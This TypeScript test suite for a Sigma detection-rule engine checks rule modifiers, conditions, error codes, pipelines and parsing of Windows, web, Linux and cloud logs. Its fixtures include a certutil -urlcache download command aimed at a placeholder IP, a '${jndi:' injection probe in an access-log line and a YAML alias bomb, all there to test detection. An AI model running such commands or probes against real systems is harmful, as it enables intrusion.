import { expect, test } from 'vitest';
import { found, rule, setOf } from '../../../../../test/support/sigma-rules.ts';

/** Whether "s: {...}" matches an object. */
function hit(selection: string, record: object): boolean {
  const set = setOf(rule(`s: ${selection}`));
  expect(set.problems).toEqual([]);
  return found(set, 'jsonl', JSON.stringify(record)).length === 1;
}
const codes = (...texts: string[]): string[] => setOf(...texts).problems.map(({ code }) => code);

const COMMAND = String.raw`C:\Windows\certutil.exe -urlcache -f http://192.0.2.1/a`;
test.each([
  ["{c: 'c:\\windows\\CERTUTIL.exe*'}", { c: COMMAND }, true],
  ['{c|contains: urlcache}', { c: COMMAND }, true],
  ['{c|contains|cased: URLCACHE}', { c: COMMAND }, false],
  ['{c|contains|all: [urlcache, http]}', { c: COMMAND }, true],
  ['{c|contains|all: [urlcache, ftp]}', { c: COMMAND }, false],
  ['{c|contains: [ftp, http]}', { c: COMMAND }, true],
  ["{c|startswith: 'c:\\windows'}", { c: COMMAND }, true],
  ['{c|endswith: /A}', { c: COMMAND }, true],
  ["{c|contains|windash: ' /urlcache'}", { c: COMMAND }, true],
  ["{c|contains: ' /urlcache'}", { c: COMMAND }, false],
  ["{c|re: 'url[a-z]+e\\s-f'}", { c: COMMAND }, true],
  ['{c|re: URLCACHE}', { c: COMMAND }, false],
  ['{c|re|i: URLCACHE}', { c: COMMAND }, true],
  ["{c|re: '(?i)URLCACHE'}", { c: COMMAND }, true],
  ["{c|re|s: 'a.b'}", { c: 'a\nb' }, true],
  ["{c|re: 'a.b'}", { c: 'a\nb' }, false],
  ["{c|re|m: '^b$'}", { c: 'a\nb' }, true],
  ["{c|re: '^b$'}", { c: 'a\nb' }, false],
  ['{c|base64: foobar}', { c: 'Zm9vYmFy' }, true],
  ['{c|base64offset|contains: http://}', { c: `xx${Buffer.from('a http://b').toString('base64')}` }, true],
  ['{c|base64offset|contains: http://}', { c: `xx${Buffer.from('ab http://b').toString('base64')}` }, true],
  ['{c|base64offset|contains: http://}', { c: `xx${Buffer.from('abc http://b').toString('base64')}` }, true],
  ['{c|base64offset|contains: http://}', { c: Buffer.from('ftp://b').toString('base64') }, false],
  ['{c|wide|base64offset|contains: ping}', { c: Buffer.from(' ping -n', 'utf16le').toString('base64') }, true],
  ['{c|utf16be|base64offset|contains: ping}', { c: Buffer.from('x ping -n', 'utf16le').swap16().toString('base64') }, true],
  ['{c|utf16|base64|startswith: ping}', { c: Buffer.from('\ufeffping', 'utf16le').toString('base64') }, true],
  ['{ip|cidr: [10.0.0.0/8, 192.168.0.0/16]}', { ip: '192.168.3.4' }, true],
  ['{ip|cidr: 10.0.0.0/8}', { ip: '11.0.0.1' }, false],
  ["{ip|cidr: 'fe80::/10'}", { ip: 'fe80::1' }, true],
  ['{c|exists: true}', { c: '' }, true],
  ['{c|exists: false}', { c: '' }, false],
  ['{c|exists: false}', { d: 1 }, true],
  ['{c: null, d: 1}', { d: 1 }, true],
  ['{c: null}', { c: 'x' }, false],
  ['{c: [null, x]}', { c: 'x' }, true],
  ["{c: ''}", { c: '' }, true],
  ["{c: ''}", { c: 'x' }, false],
  ["{c: '*'}", { d: 'x' }, false],
  ['{n|gt: 5, n|lte: 10}', { n: 10 }, true],
  ['{n|gt: 5}', { n: 5 }, false],
  ['{n|gte: 5}', { n: '5.0' }, true],
  ['{n|lt: 5}', { n: '' }, false],
  ['{n: 4688}', { n: '4688' }, true],
  ['{n: 4688}', { n: 46_880 }, false],
  ['{c: true}', { c: true }, true],
  ['{a|fieldref: b}', { a: 'X', b: 'x' }, true],
  ['{a|fieldref: b}', { a: 'X', b: 'y' }, false],
  ['{a|fieldref|endswith: b}', { a: 'X\\y', b: 'y' }, true],
  ['{c|neq: x}', { c: 'y' }, true],
  ['{c|neq: x}', { c: 'X' }, false],
  ['{c|neq: x}', { d: 1 }, true],
  ['{t|hour: 23, t|minute: 59, t|day: 31, t|month: 12, t|year: 2026, t|week: 53}', { t: '2026-12-31T23:59:00Z' }, true],
  ['{t|hour: 3}', { t: '2026-12-31 23:59:00' }, false],
  ['{user.name: ada}', { user: { name: 'Ada' } }, true],
  ['{tags: b}', { tags: ['a', 'b'] }, true],
  ['{items.id: 7}', { items: [{ id: 3 }, { id: 7 }] }, true],
  ['[{a: x}, {b: y}]', { b: 'y' }, true],
  ['[one, two]', { m: 'say TWO' }, true],
  ["{'|all': [one, two]}", { m: 'two', n: 'one' }, true],
  ["{'|all': [one, two]}", { m: 'two' }, false],
  ["{'|contains': 'o?e'}", { m: 'xoney' }, true],
  ['[te"st]', { m: 'a te"st' }, true],
  ["{c|re: '\\Aab\\z'}", { c: 'ab' }, true],
  ["{c|re: '^\\p{Lu}$'}", { c: 'É' }, true],
  ['{c|re|ignorecase: URLCACHE}', { c: COMMAND }, true],
  ["{c|re|startswith: 'urlcache|C:'}", { c: COMMAND }, true],
  ["{c|re|endswith: 'C:|/a'}", { c: COMMAND }, true],
  ["{c|re|endswith: 'C:|http'}", { c: COMMAND }, false],
  ['{ip|cidr: 192.0.2.7}', { ip: '192.0.2.7' }, true],
  ['{ip|cidr: 192.0.2.0/24}', { ip: '::ffff:192.0.2.7' }, true],
  ['{c|exists: yes}', { d: 1 }, false],
  ['{c: 0x10}', { c: '16' }, true],
  ['{c: 0x10}', { c: '0x10' }, true],
  ['{o|exists: true}', { o: { a: 1 } }, true],
  ['{o: null}', { o: { a: 1 } }, false],
  ['{o|contains: deep}', { o: [{ a: { b: 'so deep' } }] }, true],
  ['{o.a|contains: deep}', { o: [{ a: { b: 'so deep' } }] }, true],
  ['{"l{}.id": 7}', { l: [{ id: 7 }] }, true],
  ['{"l[0].id": 7}', { l: [{ id: 7 }] }, true],
  ['{e: null}', { e: [] }, true],
  ['{"a-b c.d": x}', { 'a-b c': { d: 'x' } }, true],
])('%s on %o: %s', (selection, record, wanted) => expect(hit(selection, record)).toBe(wanted));

test('a record that writes letters as codes is found all the same', () => {
  const set = setOf(rule('s: {c|contains: urlcache}'), rule('s: [urlcache]'));
  expect(found(set, 'jsonl', String.raw`{"c":"\u0075rlcach\u0065"}`)).toHaveLength(2);
});

test.each([
  ['a and not b', { x: 1 }, true],
  ['a and not b', { x: 1, y: 1 }, false],
  ['1 of them', { y: 1 }, true],
  ['all of them', { x: 1, y: 1 }, false],
  ['2 of them', { x: 1, y: 1 }, true],
  ['1 of sel_*', { z: 1 }, true],
  ['all of sel_* or a and b', { x: 1, y: 1 }, true],
  ['not (a or b)', { q: 1 }, true],
  ['NOT a AND b', { y: 1 }, true],
])('%s on %o: %s', (condition, record, wanted) => {
  const set = setOf(rule(`a: {x: 1}\nb: {y: 1}\nsel_c: {z: 1}\n_hidden: {h: 1}\ncondition: ${condition}`));
  expect(set.problems).toEqual([]);
  expect(found(set, 'jsonl', JSON.stringify(record)).length === 1).toBe(wanted);
});

test('a list of conditions is any of them', () => {
  const set = setOf(rule('a: {x: 1}\nb: {y: 1}\ncondition: [a, b]'));
  expect(found(set, 'jsonl', '{"y":1}')).toEqual(['R']);
});

test.each([
  ['s: {c|contians: x}', 'unknown_modifier'],
  ['s: {c|contains|startswith: x}', 'modifier_conflict'],
  ['s: {c|contains|re: x}', 'modifier_conflict'],
  ['s: {c|re|base64: x}', 'modifier_conflict'],
  ['s: {c|i: x}', 'modifier_conflict'],
  ['s: {c|wide: x}', 'modifier_conflict'],
  ["s: {c|re: '('}", 'bad_regex'],
  ["s: {c|re: 'a++'}", 'bad_regex'],
  ["s: {c|re: '(?>a)'}", 'bad_regex'],
  ["s: {c|re: '\\K'}", 'bad_regex'],
  ['s: {c|cidr: 10.0.0.0/99}', 'bad_cidr'],
  ['s: {c|gt: many}', 'bad_value'],
  ['s: {c|exists: maybe}', 'bad_value'],
  ["s: {c|expand: '%admins%'}", 'placeholder'],
  ['s: {c: {d: 1}}', 'bad_structure'],
  ['s: {c: []}', 'bad_value'],
  ['s: {}', 'bad_structure'],
  ['s: {c: 1}\ncondition: s and t', 'unknown_selection'],
  ['s: {c: 1}\ncondition: 1 of t*', 'unknown_selection'],
  ['s: {c: 1}\ncondition: 3 of s*', 'unknown_selection'],
  ['s: {c: 1}\ncondition: s and', 'condition_syntax'],
  ['s: {c: 1}\ncondition: (s', 'condition_syntax'],
  ['s: {c: 1}\ncondition: s s', 'condition_syntax'],
  ['s: {c: 1}\ncondition: s | median(x) > 1', 'unknown_aggregation'],
  ['s: {c: 1}\ncondition: s | count() > 1', 'no_timeframe'],
  ['s: {c: 1}\ntimeframe: 5x\ncondition: s | count() > 1', 'bad_timespan'],
  ['condition: s', 'no_detection'],
])('%s is %s', (detection, code) => expect(codes(rule(detection))).toEqual([code]));

test('problems of whole files have names, and the rest of the file is read', () => {
  expect(codes('title: [')).toEqual(['yaml']);
  expect(codes('- a\n- b')).toEqual(['bad_structure']);
  expect(codes('title: x')).toEqual(['no_detection']);
  expect(codes('title: x\nlogsource: {}\ndetection: {s: {a: 1}, condition: s}')).toEqual(['no_logsource']);
  expect(codes('title: x\nlevel: huge\nlogsource: {product: x}\ndetection: {s: {a: 1}, condition: s}')).toEqual(['bad_level']);
  expect(codes('')).toEqual(['no_detection']);
  expect(codes('title: x\naction: explode')).toEqual(['unknown_action']);
  expect(codes(rule('s:\n  a: *.exe'))).toEqual(['yaml']);
  expect(codes(`---\n${rule('s: {a: 1}')}\n---\n`)).toEqual([]);
  const set = setOf(`${rule('s: {a|what: 1}')}\n---\n${rule('s: {a: 1}')}`);
  expect(set.problems).toEqual([{ code: 'unknown_modifier', message: '"what" is no modifier of Sigma.', file: '0.yml', rule: 'R', line: 4, column: 9 }]);
  expect(found(set, 'jsonl', '{"a":1}')).toEqual(['R']);
});

test('hostile YAML ends in a problem', () => {
  const bomb = `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: [*e, *e, *e, *e, *e, *e, *e, *e, *e]`;
  expect(codes(bomb)).toHaveLength(1);
  expect(codes(`title: ${'['.repeat(5000)}`)).toHaveLength(1);
  expect(codes(rule(`s: {a: 1}\ncondition: ${'('.repeat(3000)}s${')'.repeat(3000)}`))).toEqual(['condition_syntax']);
});

test('a colon in what people read is no reason not to run', () => {
  const set = setOf(rule('s: {a: 1}').replace('title: R', 'title: R\nfalsepositives:\n  - Backups: nightly\n  - Unknown\nreferences: https://example.org'));
  expect([set.problems, set.listed[0].head.falsePositives, set.listed[0].head.references]).toEqual([[], ['Backups: nightly', 'Unknown'], ['https://example.org']]);
});

test('collections share what is global, and repeat the rule before', () => {
  const set = setOf(['action: global\ntitle: G\nlogsource: {product: x}', 'detection: {s: {a: 1}, condition: s}', 'action: repeat\ntitle: H\ndetection: {s: {a: 2}}', 'action: reset', rule('s: {a: 3}')].join('\n---\n'));
  expect(set.problems).toEqual([]);
  expect([1, 2, 3].map((a) => found(set, 'jsonl', JSON.stringify({ a })))).toEqual([['G'], ['H'], ['R']]);
});

test('filters narrow the rules they name', () => {
  const filter = (rules: string): string => `title: F\nlogsource: {product: acme}\nfilter:\n  rules: ${rules}\n  mine: {user: admin}\n  condition: not mine`;
  const set = setOf(rule('s: {a: 1}'), filter('[R]'));
  expect(found(set, 'jsonl', '{"a":1,"user":"admin"}')).toEqual([]);
  expect(found(set, 'jsonl', '{"a":1,"user":"ada"}')).toEqual(['R']);
  expect(codes(rule('s: {a: 1}'), filter('[other]'))).toEqual(['unknown_rule']);
  const some = setOf(rule('s: {a: 1}'), filter('[other, R]'));
  expect([some.problems, found(some, 'jsonl', '{"a":1,"user":"admin"}'), some.listed[0].note]).toEqual([[], [], 'Narrows 1 rule. Not there: other.']);
  expect(found(setOf(rule('s: {a: 1}'), filter('any')), 'jsonl', '{"a":1,"user":"admin"}')).toEqual([]);
});

test('pipelines rename fields, add conditions, fill placeholders and refuse', () => {
  const pipeline = (steps: string): string => `name: P\nvars: {admins: [root, ada]}\ntransformations:\n${steps}`;
  const renamed = setOf(rule('s: {Image|endswith: x}'), pipeline('- type: field_name_mapping\n  mapping: {Image: [process.executable, process.name]}\n  rule_conditions: [{type: logsource, product: acme}]'));
  expect(renamed.problems).toEqual([]);
  expect(found(renamed, 'jsonl', '{"process":{"name":"ax"}}')).toEqual(['R']);
  const added = setOf(rule('s: {a: 1}\nt: {b: 1}\ncondition: s or t'), pipeline('- type: add_condition\n  conditions: {index: main}'));
  expect([found(added, 'jsonl', '{"b":1}'), found(added, 'jsonl', '{"b":1,"index":"main"}')]).toEqual([[], ['R']]);
  const filled = setOf(rule("s: {user|expand: '%admins%'}"), pipeline('- type: value_placeholders'));
  expect([found(filled, 'jsonl', '{"user":"ada"}'), found(filled, 'jsonl', '{"user":"eve"}')]).toEqual([['R'], []]);
  expect(codes(rule('s: {a: 1}'), pipeline('- type: rule_failure\n  message: no'))).toEqual(['pipeline_refused']);
  expect(codes(rule('s: {a: 1}'), pipeline('- type: make_coffee'))).toEqual(['unknown_transformation']);
  const literal = setOf(rule("s: {user|expand: '\\%admins\\%'}"), pipeline('- type: value_placeholders'));
  expect([literal.problems, found(literal, 'jsonl', '{"user":"%admins%"}'), found(literal, 'jsonl', '{"user":"root"}')]).toEqual([[], ['R'], []]);
  expect(found(setOf(rule("s: {user: '%admins%'}")), 'jsonl', '{"user":"%admins%"}')).toEqual(['R']);
  const prefixed = setOf(rule('s: {a: 1, b: 2}'), pipeline('- type: field_name_prefix\n  prefix: win.\n  field_name_conditions: [{type: include_fields, fields: [a]}]\n- type: drop_detection_item\n  field_name_conditions: [{type: include_fields, fields: [b]}]'));
  expect(found(prefixed, 'jsonl', '{"win":{"a":1}}')).toEqual(['R']);
});

const SYSMON = (id: number, data: object): string => JSON.stringify({ Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: id, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws1' }, EventData: data } });
const SECURITY = (id: number, data: object): string => JSON.stringify({ Event: { System: { EventID: { '#attributes': { Qualifiers: 0 }, '#text': id }, Channel: 'Security', Computer: 'ws1' }, EventData: data } });

test('categories of Windows are events of Sysmon and of the security log, with their names for fields', () => {
  const set = setOf(rule(String.raw`s: {Image|endswith: '\whoami.exe', User|contains: ada}`, 'product: windows, category: process_creation'));
  expect(found(set, 'evtx', SYSMON(1, { Image: String.raw`C:\x\whoami.exe`, User: String.raw`X\ada` }))).toEqual(['R']);
  expect(found(set, 'evtx', SYSMON(5, { Image: String.raw`C:\x\whoami.exe`, User: String.raw`X\ada` }))).toEqual([]);
  expect(found(set, 'evtx', SECURITY(4688, { NewProcessName: String.raw`C:\x\WHOAMI.exe`, SubjectUserName: 'ada', SubjectDomainName: 'X' }))).toEqual(['R']);
  expect(found(set, 'evtx', SECURITY(4689, { NewProcessName: String.raw`C:\x\whoami.exe`, SubjectUserName: 'ada' }))).toEqual([]);
  const parents = setOf(rule('s: {ProcessId: 4660, ParentProcessId: 16}', 'product: windows, category: process_creation'), rule("s: {EventID: 4688, ProcessId: '0x10'}", 'product: windows, service: security').replace('title: R', 'title: S'));
  expect(found(parents, 'evtx', SECURITY(4688, { NewProcessId: '0x1234', ProcessId: '0x10' }))).toEqual(['R', 'S']);
  expect(found(setOf(rule('s: {Imphash: AB12, sha256: cd}', 'product: windows, category: image_load')), 'evtx', SYSMON(7, { Hashes: 'SHA256=CD,IMPHASH=ab12' }))).toEqual(['R']);
  const flat = setOf(rule('s: {EventID: 4624}', 'product: windows, service: security'));
  expect(found(flat, 'jsonl', '{"winlog":{"event_id":4624,"channel":"Security","event_data":{"LogonType":"3"}}}')).toEqual(['R']);
  const beats = setOf(rule("s: {LogonType: 3}", 'product: windows, service: security'));
  expect(found(beats, 'jsonl', '{"winlog":{"event_id":4624,"channel":"Security","event_data":{"LogonType":"3"}}}')).toEqual(['R']);
});

test('rules for the web read access logs', () => {
  const line = '192.0.2.7 - ada [01/Oct/2026:00:00:00 +0000] "GET /a/b.php?x=${jndi:ldap} HTTP/1.1" 404 12 "-" "curl/8"';
  const web = (selection: string, category = 'webserver'): string[] => found(setOf(rule(`s: ${selection}`, `category: ${category}`)), 'access', line);
  expect(web("{cs-uri-query|contains: '${jndi:'}")).toEqual(['R']);
  expect(web('{cs-method: GET, sc-status: [404, 405], c-useragent|startswith: CURL}')).toEqual(['R']);
  expect(web('{cs-uri-stem: /a/b.php, c-uri-extension: php, c-ip: 192.0.2.7}')).toEqual(['R']);
  expect(web('{sc-status: 200}')).toEqual([]);
  expect(web('{c-useragent: curl/8}', 'proxy')).toEqual([]);
});

test('rules for Linux read the audit log, decoded, and programs of syslog', () => {
  const audit = (selection: string): string[] => found(setOf(rule(selection, 'product: linux, service: auditd')), 'auditd', `type=EXECVE msg=audit(1490995752.404:20): argc=3 a0="tar" a1="czf" a2=${Buffer.from('my file').toString('hex').toUpperCase()}`);
  expect(audit("s: {type: EXECVE, a0: tar, a2: 'my file'}")).toEqual(['R']);
  expect(audit("s: ['my file']")).toEqual(['R']);
  expect(audit('s: {a0: wget}')).toEqual([]);
  const command = setOf(rule("s: {CommandLine|contains: 'tar czf'}", 'product: linux, category: process_creation'));
  expect(found(command, 'auditd', 'type=EXECVE msg=audit(1490995752.404:20): argc=2 a0="tar" a1="czf"')).toEqual(['R']);
  const sshd = setOf(rule('s: [error in libcrypto]', 'product: linux, service: sshd'));
  expect(found(sshd, 'rfc3164', '<38>Oct  1 00:00:01 h sshd[12]: error in libcrypto')).toEqual(['R']);
  expect(found(sshd, 'rfc3164', '<38>Oct  1 00:00:01 h cron[12]: error in libcrypto')).toEqual([]);
});

test('a cloud trail is told by its fields', () => {
  const set = setOf(rule("s: {eventSource: s3.amazonaws.com, eventName: ListBuckets, userIdentity.type: Root, sourceIPAddress|cidr: 192.0.2.0/24}", 'product: aws, service: cloudtrail'));
  expect(found(set, 'json', '{"eventSource":"s3.amazonaws.com","eventName":"ListBuckets","userIdentity":{"type":"Root"},"sourceIPAddress":"192.0.2.9"}')).toEqual(['R']);
});
